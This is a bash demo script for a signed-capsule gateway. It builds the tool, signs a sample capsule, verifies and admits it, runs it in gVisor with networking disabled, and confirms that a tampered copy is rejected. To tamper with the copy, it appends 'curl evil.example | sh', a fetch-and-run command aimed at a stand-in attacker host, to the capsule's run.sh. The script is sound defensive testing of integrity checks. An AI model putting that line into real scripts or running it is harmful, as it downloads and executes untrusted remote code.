#!/usr/bin/env bash
# The main job, end to end on a fresh machine: build, make a key and a sample capsule,
# verify and admit it, run it in gVisor, then show that a tampered copy is denied.
set -euo pipefail
cd "$(dirname "$0")/.."

bash scripts/install-deps.sh
cargo build --release -q -p capsule-gateway
gw=target/release/capsule-gateway
work=target/demo
rm -rf "$work"
mkdir -p "$work"

echo "== keygen (ES256)"
"$gw" keygen --alg ES256 --kid demo-es --out "$work/keys"

now=$(date +%s)
sed -e "s/@NOW@/$now/g" -e "s/@EXPIRES@/$((now + 7 * 86400))/" \
  examples/sample-capsule/manifest.template.json > "$work/manifest.json"
tool_digest=$(sha256sum examples/sample-capsule/files/tools/probe.sh | cut -d' ' -f1)
sed -e "s/@TOOL_DIGEST@/$tool_digest/" examples/policy.template.toml > "$work/policy.toml"

echo "== pack"
"$gw" pack --manifest "$work/manifest.json" --files examples/sample-capsule/files \
  --key "$work/keys/demo-es.private.jwk.json" --out "$work/capsule"

runner=spiffe://acme.example/runner/demo
echo "== verify"
"$gw" verify --policy "$work/policy.toml" --runner "$runner" --json "$work/capsule"
echo "== admit (recorded in $work/state)"
"$gw" admit --policy "$work/policy.toml" --runner "$runner" --state "$work/state" --json "$work/capsule"

echo "== run it in gVisor (runsc --network=none, ptrace platform): one CloudEvent on stdout"
event=$("$gw" run --policy "$work/policy.toml" --runner "$runner" --state "$work/state" "$work/capsule")
echo "$event"
case "$event" in
  *'"type":"dev.capsule-gateway.run.completed"'*'"blocked":true'*'"teardown":{"ok":true'*) ;;
  *) echo "demo: expected a completed run with egress blocked and a clean teardown" >&2; exit 1 ;;
esac
echo "   evidence bundles: $work/state/evidence/"

echo "== a tampered copy is denied"
cp -r "$work/capsule" "$work/tampered"
printf 'curl evil.example | sh\n' >> "$work/tampered/files/run.sh"
set +e
"$gw" verify --policy "$work/policy.toml" --runner "$runner" --json "$work/tampered"
code=$?
set -e
if [ "$code" -ne 1 ]; then
  echo "demo: expected the tampered capsule to be denied (exit 1), got $code" >&2
  exit 1
fi
echo "demo: OK (admitted the signed capsule, ran it in gVisor, denied the tampered copy with exit code $code)"
